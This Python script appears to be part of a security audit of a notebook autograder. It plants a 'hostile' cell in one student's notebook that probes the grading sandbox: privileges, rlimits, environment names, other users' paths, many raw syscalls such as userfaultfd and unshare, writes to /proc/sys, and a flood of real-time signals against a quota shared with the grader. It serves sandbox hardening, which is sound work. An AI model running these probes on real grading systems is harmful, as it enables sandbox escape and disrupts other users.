"""a06: earlier rounds' fixes, re-checked from a kernel graded as uid 65534, and what else the filter lets through.
Each line prints what happened; nothing here floods (a few MiB at most)."""
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import u12

CELL = r'''
import ctypes, errno, fcntl, mmap, os, resource, signal, socket, struct, threading
def _recon():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    def sc(name, nr, *args):
        import sys; sys.stdout.flush()
        r = libc.syscall(nr, *args)
        e = ctypes.get_errno() if r < 0 else 0
        print(f"{name:28s} -> {r} {errno.errorcode.get(e, '') if e else ''}")
        return r
    print("uid/gid", os.getuid(), os.getgid(), "CapEff", next(l.split()[1] for l in open('/proc/self/status') if l.startswith('CapEff')),
          "Seccomp", next(l.split()[1] for l in open('/proc/self/status') if l.startswith('Seccomp:')))
    for n in ("RLIMIT_DATA", "RLIMIT_AS", "RLIMIT_STACK", "RLIMIT_NPROC", "RLIMIT_NOFILE", "RLIMIT_MEMLOCK",
              "RLIMIT_SIGPENDING", "RLIMIT_MSGQUEUE", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_CORE"):
        print(f"{n:18s} {resource.getrlimit(getattr(resource, n))}")
    print("env keys", sorted(os.environ))
    for p in ("<user clone>/source", "<user clone>/autograders", "/tmp/attack12-home", "/root", "<other checkouts>"):
        print(p, "exists" if os.path.exists(p) else "absent")
    print("/dev:", sorted(os.listdir("/dev")))
    sc("memfd_create", 319, b"x", 0)
    sc("memfd_secret", 447, 0)
    sc("shmget", 29, 0, 4096, 0o1600)
    sc("mmap shared anon", 9, 0, 4096, 3, 0x21, -1, 0)
    sc("mmap GROWSDOWN", 9, 0, 1 << 20, 3, 0x122, -1, 0)
    sc("inotify_init1", 294, 0)
    sc("fanotify_init", 300, 0, 0)
    sc("add_key", 248, b"user", b"k", b"v", 1, -4)
    sc("pidfd_open(1)", 434, 1, 0)
    sc("io_setup", 206, 1, ctypes.byref(ctypes.c_ulong(0)))
    sc("userfaultfd", 323, 0)
    sc("unshare(NEWUSER)", 272, 0x10000000)
    try:
        socket.socket(40, socket.SOCK_STREAM)
        print("AF_VSOCK socket made")
    except OSError as e:
        print("AF_VSOCK", e)
    r, w = os.pipe()
    try:
        fcntl.fcntl(w, 1031, 1 << 20)
        print("F_SETPIPE_SZ allowed")
    except OSError as e:
        print("F_SETPIPE_SZ", e)
    print("/dev/zero reads", len(open("/dev/zero", "rb").read(16)), "bytes (0 = /dev/null stand-in)")
    with open("/tmp/lock", "w") as fh:
        fcntl.lockf(fh, fcntl.LOCK_EX)
        print("fcntl lock ok (no-op per round 11)")
    try:
        open("/proc/sys/kernel/hostname", "w").write("x")
        print("/proc/sys WRITABLE")
    except OSError as e:
        print("/proc/sys write:", e)
    # allowed, new this round
    class iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
    buf = ctypes.create_string_buffer(4096)
    v = iovec(ctypes.addressof(buf), 4096)
    print("vmsplice ->", libc.vmsplice(w, ctypes.byref(v), 1, 0))
    r2, w2 = os.pipe()
    print("tee ->", libc.tee(r, w2, 4096, 0))
    print("sync() ->", libc.sync())
    # queued real-time signals: a per-host-user count (RLIMIT_SIGPENDING), shared with the grader's own processes
    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
    n = 0
    class siginfo(ctypes.Structure):
        _fields_ = [("signo", ctypes.c_int), ("errno", ctypes.c_int), ("code", ctypes.c_int), ("pad", ctypes.c_byte * 116)]
    si = siginfo(signal.SIGRTMIN, 0, -1)
    while n < 200000:
        if libc.syscall(297, os.getpid(), threading.get_native_id(), int(signal.SIGRTMIN), ctypes.byref(si)) < 0:
            break
        n += 1
    print(f"rt_tgsigqueueinfo (to this blocked thread) queued {n} signals before {errno.errorcode.get(ctypes.get_errno())}",
          "SigQ", next(l.split()[1] for l in open('/proc/self/status') if l.startswith('SigQ')), flush=True)
    while signal.sigtimedwait([signal.SIGRTMIN], 0) is not None:
        pass
    signal.pthread_sigmask(signal.SIG_UNBLOCK, [signal.SIGRTMIN])
_recon()
'''
hostile = u12.notebook("ps1_memory", append={"training_memory": CELL})
dest = u12.course("a06", {("mallory", "ps1_memory"): hostile, ("zoe", "ps1_memory"): u12.honest("ps1_memory")})
u12.grade(dest)
u12.scores(dest)
import nbformat
nb = nbformat.read(f"{dest}/autograded/mallory/ps1_memory/ps1_memory.ipynb", 4)
for c in nb.cells:
    if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "training_memory":
        for o in c.get("outputs", []):
            print("OUTPUT:", o.get("text") or o.get("evalue"))
